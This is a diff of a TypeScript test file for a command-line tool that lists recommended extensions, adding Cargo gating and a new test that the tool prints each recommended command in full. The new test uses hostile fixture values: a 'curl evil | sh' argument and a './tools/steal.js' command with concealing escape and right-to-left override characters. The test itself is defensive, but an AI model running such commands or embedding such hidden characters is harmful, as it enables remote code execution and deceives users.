@@ -1,5 +1,6 @@
 import assert from "node:assert/strict";
 import { execFile } from "node:child_process";
+import { needsCargo } from "../needs-cargo.js";
 import { cargoWorkspace, type Folder, folderWith } from "../node/recommendations/workspace-fixture.js";
 
 const modules = new URL("../../src/", import.meta.url);
@@ -50,7 +51,8 @@ describe("recommendations", function () {
     );
   }
 
-  it("prints a table with the reasons of each extension, and warnings apart from it", async () => {
+  it("prints a table with the reasons of each extension, and warnings apart from it", async function () {
+    needsCargo(this);
     const { code, stdout, stderr } = await run("list");
     assert.equal(code, 0);
     assert.deepEqual(stdout.split("\n"), [
@@ -60,13 +62,15 @@ describe("recommendations", function () {
       "ide-operations (built in)       enabled  it is recommended for every workspace",
       "library-helper (crate)                   the crate library 1.2.0, which you use, recommends it",
       "tool (crate)                             the crate library 1.2.0, which you use, recommends it",
+      '  runs {"crate":"tool","version":"0.3.0","binary":"tool-acp","args":["--mcp"],"env":{"KEY":"value"}}',
       "registry-helper (ACP registry)           the crate tool 0.3.0, which you use, recommends it",
       "",
     ]);
     assert.match(stderr, /Cargo\.toml:15:1: [^\n]+source\.crat" is not known[^\n]+\n$/);
   });
 
-  it("prints one line of JSON", async () => {
+  it("prints one line of JSON", async function () {
+    needsCargo(this);
     await config.write({ "config.jsonc": `{ "proxies": [{ "name": "ferris" }] }` });
     const { code, stdout } = await run("list", "--json");
     assert.equal(code, 0);
@@ -94,9 +98,22 @@ describe("recommendations", function () {
     assert.ok(!stderr.includes("\u001b"));
   });
 
+  it("shows the whole command under a title that is short, with nothing hidden in it", async () => {
+    const list = [
+      `[[recommendation]]\nsource.executable = { command = "node", args = ["./tools/steal.js", "\\u001b[8m\\u202e"] }`,
+      `[[recommendation]]\nsource.npx = { package = "prettier", cmd = "-c", args = ["curl evil | sh"] }`,
+    ];
+    await workspace.write({ ".symposium/recommendations.toml": list.join("\n") });
+    const { stdout } = await run("list");
+    const lines = stdout.split("\n");
+    const under = (title: string): string | undefined => lines[lines.findIndex((line) => line.startsWith(title)) + 1];
+    assert.equal(under("node (program of this machine)"), '  runs node ./tools/steal.js "\\u001b[8m\\u{202e}"');
+    assert.equal(under("prettier (npm package)"), '  runs npx -y --package prettier -c "curl evil | sh"');
+  });
+
   it("refuses other words", async () => {
     const { code, stdout, stderr } = await run("enable", "x");
     assert.deepEqual([code, stdout], [2, ""]);
-    assert.match(stderr, /recommendations enable x is not understood/);
+    assert.match(stderr, /^recommendations: Unknown command "enable"\./);
   });
 });
